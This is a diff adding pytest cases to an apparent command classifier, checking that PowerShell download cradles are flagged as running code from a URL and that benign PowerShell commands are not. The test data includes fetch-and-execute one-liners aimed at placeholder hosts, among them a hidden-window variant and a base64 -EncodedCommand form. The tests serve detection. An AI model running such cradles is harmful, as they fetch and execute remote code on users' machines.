@@ -292,3 +292,31 @@ def test_a_program_run_from_an_archive_the_line_downloaded_is_code_from_its_url(
 )
 def test_unpacking_without_running_what_came_down_is_not_this(line: str) -> None:
     assert "source" not in kinds(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'pwsh -NoProfile -Command "Invoke-Expression (Invoke-WebRequest https://x.invalid/s.ps1).Content"',
+        'powershell -c "irm https://x.invalid/i | iex"',
+        "powershell.exe -w hidden -c \"IEX (New-Object System.Net.WebClient).DownloadString('https://x.invalid/a')\"",
+        # the same cradle as -EncodedCommand (UTF-16LE base64 of `iex (iwr https://x.invalid/b)`)
+        "pwsh -enc aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcABzADoALwAvAHgALgBpAG4AdgBhAGwAaQBkAC8AYgApAA==",
+        'cmd /c powershell -c "iex (iwr https://x.invalid/c)"',
+    ],
+)
+def test_powershell_download_cradles_are_code_from_their_url(line: str) -> None:
+    assert "source" in kinds(line)
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        'powershell -c "Invoke-WebRequest https://x.invalid/data.json -OutFile data.json"',
+        'pwsh -c "Invoke-Pester -Path tests"',
+        "powershell -ExecutionPolicy Bypass -File .\\build.ps1",
+        'pwsh -c "Start-Process notepad.exe"',
+    ],
+)
+def test_powershell_without_a_cradle_is_not_this(line: str) -> None:
+    assert "source" not in kinds(line)
